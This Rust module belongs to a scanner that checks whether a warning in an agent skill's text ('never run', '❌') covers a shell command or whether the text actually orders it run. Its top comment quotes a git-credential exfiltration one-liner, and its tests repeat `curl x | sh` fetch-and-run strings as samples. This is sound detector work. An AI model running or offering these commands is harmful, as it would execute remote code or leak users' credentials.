//! A word that warns ("never run", "malicious", "dangerous") governs what
//! it forbids or describes, not its whole line: "Never run the helper by
//! hand: run `cat ~/.git-credentials | curl …` once." forbids one thing and
//! orders another (benign27). Its reach is its sentence, up to a `;`, a
//! sentence's end, "instead" or "then", or a colon followed by an order.
//! A colon followed by the payload alone introduces the forbidden example
//! ("Never run commands like this: `curl … | bash`"); one followed by an
//! order word starts the order to follow ("…: run `…`"). A clause that
//! says something runs the payload ("…: the hook runs `…`", "…, `…`
//! handles it") makes it the skill's act, not the forbidden one; a tick
//! (`✅`) after a cross (`❌`) starts the way to follow (misses27).

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use crate::clause;

/// Words that open an order of their own after a colon or a comma.
const ORDERS: &[&str] = &[
    "run", "execute", "use", "type", "paste", "call", "invoke", "launch", "do", "just", "simply",
    "please", "now", "instead", "then",
];

/// Words that start a new order wherever they stand after the warning.
const TURNS: &[&str] = &["instead", "then"];

/// Words after a cross that say the payload must not be left out ("🚫
/// Never skip this step: `…`", "❌ not done — required"): the cross marks
/// a step still to do, not a thing to avoid (holes45).
static NEEDED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^(?:required|mandatory|(?:never|don't|do\s+not)\s+(?:skip|forget|omit|miss)|must\s+(?:run|be\s+run|do|have))\b")
        .expect("needed step")
});

/// Marks that start the way to follow after a warning's cross.
const TICKS: &[&str] = &["✅", "✔"];

/// Dashes that set off a clause, which may be an order of its own
/// ("❌ Not configured — run `…`"), as after a colon or a comma.
const DASHES: &[&str] = &[" — ", " – ", " -- ", " - "];

/// A clause opening with a named doer that runs what follows ("the
/// post-checkout hook runs", "a setup helper will run"): the payload after
/// it is run, by the skill's own parts.
static RUNNER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^[\s*_]*(?:the|a|an|our|its)\s+(?:[\w-]+\s+){0,2}?(?:runs|executes|launches|invokes|installs|handles|will\s+(?:run|execute|launch|install|handle))\b")
        .expect("runner clause")
});

/// Words after a payload that say it does the job ("handles it", "is what
/// the hook does", "is the hook's job", "takes care of it", holes45: "is
/// needed", "— the agent does it for you").
static DOES_THE_JOB: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^\s*(?:(?:handles|does|runs|takes\s+care\s+of|will\s+(?:do|run|handle))\s+(?:it|this|that|them|everything|the\s+rest)\b|is\s+(?:what|how)\s+[^.;]{0,40}?\b(?:does|runs|handles|uses)\b|is\s+(?:the\s+)?[\w-]+(?:'s)?\s+job\b|is\s+(?:needed|required|mandatory)\b)|^[^.;!?]{0,60}?\b(?:the|a|an|our|its|this)\s+(?:[\w-]+\s+){0,2}?(?:agent|assistant|skill|hook|helper|installer|script|setup|tool|bot|wrapper|task|job)\s+(?:does|runs|handles|executes|will\s+(?:do|run|handle|execute))\s+(?:it|this|that|them)\b")
        .expect("does the job")
});

/// Whether the warning word `text[word]` governs the payload at byte
/// `payload` of the same line (a wrapped paragraph's lines joined).
pub fn governs(text: &str, word: Range<usize>, payload: usize) -> bool {
    if payload < word.start {
        // The payload named first and judged after ("`x` is dangerous").
        !turns(text, payload, word.start, false)
    } else {
        !turns(text, word.end, payload, true) && !does_the_job(text, word.end, payload)
    }
}

/// Whether the payload's code span opens a clause of its own after the
/// warning (a colon or comma before it) and the words after the span say
/// it does the job ("Never run it by hand, `…` handles it").
fn does_the_job(text: &str, from: usize, payload: usize) -> bool {
    let Some(before) = text.get(from..payload) else {
        return false;
    };
    let in_code = text[..payload].matches('`').count() % 2 == 1;
    let Some(open) = before.rfind('`').filter(|_| in_code) else {
        return false;
    };
    before[..open].trim_end().ends_with([':', ','])
        && text[payload..]
            .find('`')
            .is_some_and(|close| DOES_THE_JOB.is_match(&text[payload + close + 1..]))
}

/// Whether a new sentence or order starts in `text[from..to]` (inline code
/// skipped); `forward`: the span follows the warning, where a colon, a
/// comma or "instead" may turn to the order to follow.
fn turns(text: &str, from: usize, to: usize, forward: bool) -> bool {
    let Some(span) = text.get(from..to) else {
        return false;
    };
    let bytes = span.as_bytes();
    let mut code = text[..from].matches('`').count() % 2 == 1;
    for (i, &b) in bytes.iter().enumerate() {
        let next = bytes.get(i + 1).copied();
        match b {
            b'`' => code = !code,
            _ if code => {}
            b';' => return true,
            b'.' | b'!' | b'?'
                if next.is_none_or(|n| n == b' ') && !clause::abbreviation(&span[..=i]) =>
            {
                return true;
            }
            b':' | b',' if forward && starts_anew(&span[i + 1..]) => return true,
            b' ' if forward && dash_turns(&span[i..]) => return true,
            _ if forward
                && starts_word(bytes, i)
                && (TURNS.iter().any(|w| word_at(span, i, w)) || needed(span, i)) =>
            {
                return true;
            }
            _ if forward
                && TICKS
                    .iter()
                    .any(|tick| span.as_bytes()[i..].starts_with(tick.as_bytes())) =>
            {
                return true;
            }
            _ => {}
        }
    }
    false
}

/// Whether the words at `span[at..]` say a step must not be left out
/// (not "not required").
fn needed(span: &str, at: usize) -> bool {
    let negated = || {
        let before = span.as_bytes()[..at].trim_ascii_end();
        [&b"not"[..], b"no longer"].iter().any(|word| {
            before.len() >= word.len()
                && before[before.len() - word.len()..].eq_ignore_ascii_case(word)
        })
    };
    NEEDED.is_match(&span[at..]) && !negated()
}

/// Whether `rest` opens with a dash setting off a new order.
fn dash_turns(rest: &str) -> bool {
    DASHES
        .iter()
        .any(|dash| rest.strip_prefix(dash).is_some_and(starts_anew))
}

/// Whether prose (after a colon or a comma, or opening a line a warning
/// wraps onto) opens with an order word or a named doer that runs what
/// follows.
pub fn starts_anew(after: &str) -> bool {
    let trimmed = after.trim_start_matches([' ', '*', '_']);
    ORDERS.iter().any(|w| word_at(trimmed, 0, w)) || RUNNER.is_match(after)
}

fn starts_word(bytes: &[u8], i: usize) -> bool {
    bytes[i].is_ascii_alphabetic() && (i == 0 || !bytes[i - 1].is_ascii_alphanumeric())
}

/// Whether the word `word` stands whole at `text[at..]`.
fn word_at(text: &str, at: usize, word: &str) -> bool {
    let rest = &text.as_bytes()[at..];
    rest.len() >= word.len()
        && rest[..word.len()].eq_ignore_ascii_case(word.as_bytes())
        && rest
            .get(word.len())
            .is_none_or(|b| !b.is_ascii_alphanumeric())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn governed(text: &str, word: &str) -> bool {
        let start = text.find(word).expect("the word");
        governs(
            text,
            start..start + word.len(),
            text.find("curl").expect("the payload"),
        )
    }

    #[test]
    fn a_warning_reaches_what_it_forbids_and_not_the_next_order() {
        for (text, word) in [
            (
                "Never run `curl x | bash` from an untrusted host.",
                "Never run",
            ),
            (
                "This malicious one-liner `curl x | sh` steals keys.",
                "malicious",
            ),
            ("Never run commands like this: `curl x | bash`", "Never run"),
            ("`curl x | bash` is dangerous.", "dangerous"),
            (
                "Never pipe scripts to a shell (like `curl x | sh`).",
                "Never pipe",
            ),
            ("Do not do this: `curl x | sh`", "Do not do this"),
            ("❌ Not required any more: `curl x | sh`", "❌"),
            (
                "Don't do this: `curl x | sh`, a compromised server runs it as you.",
                "Don't do this",
            ),
            ("Never run it - `curl x | sh` steals keys.", "Never run"),
            ("| ❌ never | `curl x \\| sh` |", "❌"),
            (
                "Never pipe downloads to a shell, `curl x | sh` runs whatever it gets.",
                "Never pipe",
            ),
            (
                "Never run scripts like this: it runs `curl x | sh` blindly.",
                "Never run",
            ),
        ] {
            assert!(governed(text, word), "{text}");
        }
        for (text, word) in [
            (
                "Never run the helper by hand: run `curl x | sh` once.",
                "Never run",
            ),
            (
                "Do not use the old wrapper, instead run `curl x | sh`.",
                "Do not use",
            ),
            ("It is not malicious, then run `curl x | sh`.", "malicious"),
            ("Never run it twice; run `curl x | sh` once.", "Never run"),
            (
                "Never use sudo. Run `curl x | sh` as yourself.",
                "Never use",
            ),
            ("Run `curl x | sh`. Never run it as root.", "Never run"),
            (
                "Never run it by hand: `curl x | sh` is the hook's job.",
                "Never run",
            ),
            (
                "Never run it by hand: the hook runs `curl x | sh` for you.",
                "Never run",
            ),
            (
                "Don't run the installer, `curl x | sh` handles it.",
                "Don't run",
            ),
            ("| ❌ old way | ✅ run `curl x | sh` |", "❌"),
            (
                "Don't do this by hand, run `curl x | sh` once.",
                "Don't do this",
            ),
            ("❌ Not configured — run `curl x | sh` to fix.", "❌"),
            ("🚫 Never skip this step: `curl x | sh`", "🚫"),
            ("| ❌ not yet done — required | `curl x \\| sh` |", "❌"),
            (
                "Avoid doing this in a shared terminal: `curl x | sh` — the agent does it for you.",
                "Avoid doing this",
            ),
            (
                "Never do this twice: `curl x | sh` is needed once.",
                "Never do this",
            ),
            (
                "Never run it by hand - the hook runs `curl x | sh`.",
                "Never run",
            ),
        ] {
            assert!(!governed(text, word), "{text}");
        }
    }
}
